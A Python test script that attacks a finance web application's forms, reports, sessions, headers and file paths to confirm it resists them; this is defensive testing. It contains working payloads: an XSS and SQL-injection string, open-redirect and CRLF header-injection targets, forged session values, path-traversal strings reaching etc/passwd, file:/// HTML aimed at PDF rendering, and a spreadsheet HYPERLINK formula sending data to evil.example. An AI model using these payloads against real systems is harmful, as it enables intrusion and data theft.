#!/usr/bin/env python3
"""Attacks through every field of every form and report, through headers, sessions and paths.

    check_attacks.py PURSER

Which fields there are comes from the verbs themselves; a new one is attacked as well.
"""

import html
import pathlib
import re
import sqlite3
import subprocess
import sys
import urllib.parse

from desk import Desk, Judge
from verbs import ACTS, NOTHING_THERE, as_form, filled, index, make_token, name_of, needed_fields, rows

# Ends a text, an attribute, a statement and an element, whichever it meets; a browser would run it.
EVIL = """x'"--><script>alert(1)</script><img src=x onerror=alert(1)>'); DROP TABLE event; --"""
ALIVE = ("<script", "<img")
OWN = re.compile('<script src="/assets/[0-9a-f]+/purser.js" defer></script>')
SUBMIT = {"category": "travel", "amount": "10.00", "why": "Taxi"}


def is_harmless(page):
    """Answered by a page or a problem, with nothing alive in it, and by no crash."""
    text = OWN.sub("", page.text).lower()
    return page.status < 500 and not any(word in text for word in ALIVE)


def dashed(fields):
    return {name.replace("_", "-"): text for name, text in fields.items()}


def acts(desk, judge, anna, verbs):
    """Each field of each form in turn, and each word of its address."""
    form = anna.get("/account").hidden("form-token")
    stored = 0
    for verb in [verb for verb in verbs if verb["method"] == "POST"]:
        name = name_of(verb)
        words, fields = ACTS[name]
        for taken in verb["takes"]:
            page = anna.post(f"/{name}/{words}", {**as_form(fields), "form-token": form,
                                                  taken["name"].replace("_", "-"): EVIL})
            judge(is_harmless(page), f"{name} lives with evil in {taken['name']}", page.status,
                  page.text)
            stored += page.status == 200
        for at in range(len(words.split("/"))):
            parts = words.split("/")
            parts[at] = urllib.parse.quote(EVIL, safe="")
            page = anna.post(f"/{name}/{'/'.join(parts)}", {**as_form(fields), "form-token": form})
            judge(is_harmless(page), f"{name} lives with evil in its address", page.status, page.text)
        page = anna.get(f"/{name}/{words}?" + urllib.parse.urlencode(
            {one["name"].replace("_", "-"): EVIL for one in verb["takes"]}))
        judge(is_harmless(page), f"the form of {name} lives with what is typed ahead", page.text)
    judge(stored > 40, "much of it is a text like any other, and is kept", stored)
    for field in ("carried", "carried-name"):
        sent = {**as_form(rows("posted_on,category,amount,why\n")), field: EVIL}
        page = anna.post("/expense/import/SSR2", {**sent, "form-token": form})
        judge(is_harmless(page), f"an import lives with evil in {field}", page.status, page.text)
    lines = "posted_on,category,amount,why,payee\n" + ",".join(
        ["2017-04-12", "travel", "1.00"] + ['"' + EVIL.replace('"', '""') + '"'] * 2) + "\n"
    for content in (lines, lines.replace("1.00", EVIL.replace(",", ";").replace('"', "'"))):
        page = anna.post("/expense/import/SSR2", {**as_form(rows(content)), "carried-name": EVIL,
                                                  "form-token": form})
        judge(is_harmless(page) and page.status in (200, 400, 422), "and in its rows", page.text)
    for path, fields in (("/account/token", {"label": EVIL, "scope": "read", "until": "2017-06-01"}),
                         ("/account/token", {"label": "x", "scope": EVIL, "until": EVIL}),
                         ("/account/invite", {"name": EVIL}), ("/account/end", {"digest": EVIL}),
                         ("/account/password", {"current": EVIL, "password": EVIL, "again": "x"}),
                         ("/sign-in", {"user": EVIL, "password": EVIL, "next": EVIL})):
        page = anna.post(path, {**fields, "form-token": form})
        judge(is_harmless(page), f"{path} lives with evil", page.status, page.text)


def reports(judge, anna, verbs):
    """Each option of each report, each word; after that what was stored is in their rows."""
    seen = ""
    for verb in [verb for verb in verbs if verb["method"] == "GET"]:
        if verb["path"].endswith("{name}"):  # a file, to be kept
            continue
        path, fields = filled(verb["path"]).removeprefix("/api/v1"), dashed(needed_fields(verb))
        page = anna.get(path + "?" + urllib.parse.urlencode(fields))
        seen += page.text
        wanted = 422 if path in NOTHING_THERE else 200
        judge(page.status == wanted and is_harmless(page), f"{path} shows texts as texts",
              page.status, page.text)
        for taken in verb["takes"]:
            query = {**fields, taken["name"].replace("_", "-"): EVIL}
            page = anna.get(path + "?" + urllib.parse.urlencode(query))
            judge(is_harmless(page), f"{path} lives with evil in {taken['name']}", page.status,
                  page.text)
        start, _, last = path.rpartition("/")
        page = anna.get(f"{start}/{urllib.parse.quote(EVIL, safe='')}")
        judge(is_harmless(page), f"{start} lives with evil for {last}", page.status, page.text)
    for path in ("/", "/SSR2", "/account", "/desk/SSR2", "/NEW", "/public/SSR2"):
        page = anna.get(path)
        seen += page.text
        judge(is_harmless(page), f"{path} shows texts as texts", page.text)
    judge(seen.count("&lt;script&gt;alert(1)") > 20, "what was stored is shown",
          seen.count("&lt;script&gt;"))
    for form in ("csv", "json", "html", "markdown", "text"):
        page = anna.get(f"/expense/list/SSR2?format={form}")
        judge(page.headers.get("content-disposition", "").startswith("attachment") and
              page.headers["x-content-type-options"] == "nosniff", f"{form} is a file, not a page",
              page.headers)


def sessions(desk, judge, anna, token):
    """Forged, borrowed, and taken for what they are not."""
    session = anna.cookies["purser-session"]
    with sqlite3.connect(f"file:{desk.book}?mode=ro", uri=True) as book:
        digests = [row[0] for row in book.execute("SELECT digest FROM ticket")]
    judge(session not in digests and token not in digests and len(digests) > 1,
          "a stolen book holds no key", digests)
    for name, value in (("a token", token), ("a digest", digests[0]), ("nothing", ""),
                        ("half of it", session[:20]), ("more", session + "A"), ("SQL", "' OR 1=1--"),
                        ("a list", f"{session},{session}"), ("a path", "../../etc/passwd")):
        page = desk.visitor({"purser-session": value}).get("/SSR2")
        judge(page.status == 303, f"{name} is no session", page.status)
        page = desk.visitor().get("/api/v1", {"Authorization": f"Bearer {value}"})
        judge((page.status == 200) == (value == token), f"{name} as a token", page.status)
    page = desk.visitor().get("/api/v1", {"Authorization": f"Bearer {session}"})
    judge(page.status == 401, "a session is no token", page.status)
    page = desk.visitor().get("/api/v1", {"Authorization": f"Basic {token}"})
    judge(page.status == 401, "a token stands after Bearer", page.status)
    page = desk.visitor().get(f"/welcome/{session}")
    judge(page.status == 404, "a session is no link", page.status)
    desk.run("finance", "user", "add", "olga", "--role", "viewer")
    page = anna.fill("/account/invite", {"name": "olga"}, form="/account")
    link = page.text.split("/welcome/")[1].split("<")[0]
    judge(desk.visitor({"purser-session": link}).get("/").status == 303, "a link is no session")
    first = desk.visitor()
    page = first.get(f"/welcome/{link}")
    page = desk.visitor().post(f"/welcome/{link}", {"password": "a long enough one", "again":
                                                    "a long enough one",
                                                    "form-token": page.hidden("form-token")})
    judge(page.status == 403, "another browser's form opens no account", page.status)


def elsewhere(desk, judge, anna):
    """Where an answer leads, and what a header of the request puts into it."""
    for target in ("//evil.example", "https://evil.example", "/\\evil.example", "\\\\evil.example",
                   "/\t/evil.example", "/\n/evil.example", "\t//evil.example", "/%0d%0aX-Evil: 1",
                   "javascript:alert(1)", "/\r\nX-Evil: 1", " //evil.example", ""):
        visitor = desk.visitor()
        page = visitor.get("/sign-in?" + urllib.parse.urlencode({"next": target}))
        kept = html.unescape(page.hidden("next"))
        judge(kept.startswith("/") and not kept.startswith("//") and "\\" not in kept
              and not any(ord(c) <= 32 for c in kept), f"{target!r} is not where one goes", kept)
    page = desk.visitor().fill("/sign-in", {"user": "chair", "next": "/\t/evil.example",
                                            "password": "a sentence is easy to remember"})
    judge(page.status == 303 and page.headers["location"] == "/", "not even after signing in",
          page.headers)
    for host in ("evil.example", 'x"><script>alert(1)</script>', "evil.example:80@127.0.0.1"):
        page = desk.visitor().get("/SSR2", {"Host": host})
        judge(page.status == 400 or page.headers["location"] == "/sign-in?next=%2FSSR2",
              f"Host: {host} leads nowhere", page.headers)
        page = anna.get("/SSR2", {"Host": host, "X-Forwarded-Host": host})
        judge(is_harmless(page) and "evil" not in page.text, f"Host: {host} is in no page", page.text)
    form = anna.get("/account").hidden("form-token")
    for origin in ("null", "http://evil.example", f"http://127.0.0.1:{desk.port}.evil.example"):
        page = anna.post("/expense/submit/SSR2", {**SUBMIT, "form-token": form}, {"Origin": origin})
        judge(page.status == 403, f"a form from {origin} is refused", page.status)
    page = anna.get("/expense/submit/SSR2", {"Cookie": "purser-session=x; \tpurser-session=y"})
    judge(page.status in (200, 303), "odd cookies are lived with", page.status)


def ways_in(desk, judge, nobody_of_it):
    """Who has a role for another review reaches nothing of this one, however it is asked for."""
    for path in ("/review/show", "/category/list", "/member/list", "/meeting/list", "/milestone/list",
                 "/work-item/list", "/factsheet/list", "/factsheet/show", "/status", "/expense/list"):
        for key in ("SSR2", "SSR2-S1"):
            page = nobody_of_it.get(f"{path}?key={key}")
            judge(page.status in (400, 422) and "Second Security" not in page.text and
                  "Travel" not in page.text, f"{path} of {key} is hidden", page.status, page.text)
    for path in ("/member/show?id=SSR2-M1", "/factsheet/changes?key=SSR2&sheet=S1",
                 "/factsheet/changes/CCT/SSR2-S1", "/meeting/show?key=SSR2&code=MADRID",
                 "/expense/show?id=SSR2-E7", "/public/SSR2/SSR2-S1.json", "/register/CCT?id=SSR2-E7",
                 "/review/show?key=CCT&key=SSR2"):
        page = nobody_of_it.get(path)
        judge(page.status in (400, 404, 422) or "SSR2#" not in page.text, f"{path} is hidden",
              page.status, page.text)
        judge("GNSO" not in page.text and "Madrid" not in page.text and "Second" not in page.text,
              f"{path} says nothing", page.text)
    page = nobody_of_it.fill("/expense/submit", {**SUBMIT, "key": "SSR2"}, form="/account")
    judge(page.status == 422 and "no review SSR2 that you may see" in html.unescape(page.text),
          "an act is as blind", page.status, page.text)


def paths(desk, judge, anna):
    """Files of this machine, by every address that has a name in it."""
    before = sorted(pathlib.Path(desk.folder.name).iterdir())
    up = ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "%252e%252e%252f", "..%00/")
    for base in ("/assets/0/", "/public/SSR2/", "/welcome/", "/expense/show/", "/", "/export/SSR2/"):
        for step in up:
            page = anna.get(base + step * 6 + "etc/passwd")
            judge(page.status in (303, 400, 404, 422) and "root:" not in page.text,
                  f"{base}{step} leads nowhere", page.status, page.text)
    desk.run("finance", "review", "set", "SSR2", "--public-page", "on")
    for name in ("ssr2.db", "..%2fssr2.db", "SSR2-S1.pdf%00", "SSR2-S1.pdf/", "ssr2-s1.pdf", "%2e"):
        page = anna.get("/public/SSR2/" + name)
        judge(page.status in (400, 404) or page.bytes.startswith(b"%PDF-"),
              f"{name} is no public file",
              page.status)
    for name in ("../../evil", "/tmp/purser-evil", "..\\..\\evil", "a" * 5000, "x\r\nX-Evil: 1", ".."):
        page = anna.upload("/expense/submit/SSR2", {**SUBMIT, "why": "Receipt"}, "receipt", name,
                           b"%PDF-1.4 evil")
        judge(page.status in (200, 400) and "x-evil" not in page.headers, f"{name[:20]!r} is a name",
              page.status, page.text)
    judge(not pathlib.Path("/tmp/purser-evil").exists(), "and no place")
    after = [p for p in pathlib.Path(desk.folder.name).iterdir() if p not in before]
    judge(not after, "nothing is left beside the book", after)


def papers(desk, judge, anna):
    """A file of this machine does not get into a pdf, nor a formula into a spreadsheet."""
    evil = ('"><img src="file:///etc/passwd"><link rel="attachment" href="file:///etc/passwd">'
            '<style>@import "file:///etc/passwd";</style><object data="file:///etc/passwd">')
    formula = '=HYPERLINK("http://evil.example/"&A1,"x")'
    for field, text in (("why", evil), ("payee", formula)):
        form = anna.get("/account").hidden("form-token")
        page = anna.post("/expense/submit/SSR2", {**SUBMIT, field: text, "form-token": form})
        judge(page.status == 200, f"{text[:20]} is a text like any other", page.status)
    desk.run("finance", "review", "set", "SSR2", "--overview", evil)
    seen = False
    for number, path in enumerate(("/expense/list/SSR2", "/register/SSR2", "/factsheet/show/SSR2")):
        page = anna.get(path + "?format=pdf")
        pdf = pathlib.Path(desk.folder.name, f"evil-{number}.pdf")
        pdf.write_bytes(page.bytes)
        told = subprocess.run(["pdfdetach", "-list", pdf], capture_output=True, text=True, check=True)
        text = subprocess.run(["pdftotext", pdf, "-"], capture_output=True, text=True, check=True)
        judge("passwd" not in told.stdout and "root:" not in text.stdout and b"root:" not in page.bytes,
              f"no file of this machine is in {path} as pdf", told.stdout)
        pdf.unlink()
        rows = anna.get(path + "?format=csv").text
        seen = seen or "HYPERLINK" in rows
        judge(not re.search(r"(^|,)\"?[=+@]", rows, re.M), f"no formula is in {path} as csv", rows)
    judge(seen, "though its text is")


def main():
    judge = Judge()
    with Desk(sys.argv[1]) as desk:
        for role in ("support", "chair", "board"):
            desk.run("finance", "user", "add", "finance", "--role", role)
        desk.run("chair", "request", "submit", "SSR2", "--category", "travel", "--amount", "40000",
                 "--why", "A third meeting")
        anna = desk.sign_in("finance")
        token = make_token(anna, "write")
        verbs = index(desk, token)
        ways_in(desk, judge, desk.sign_in("stranger"))
        elsewhere(desk, judge, anna)
        sessions(desk, judge, anna, token)
        paths(desk, judge, anna)
        papers(desk, judge, anna)
        acts(desk, judge, anna, verbs)
        reports(judge, anna, verbs)
        said = desk.run("finance", "verify").stdout
        judge("SSR2" in said, "and the book is whole", said)
    return judge.end(at_least=500)


if __name__ == "__main__":
    sys.exit(main())
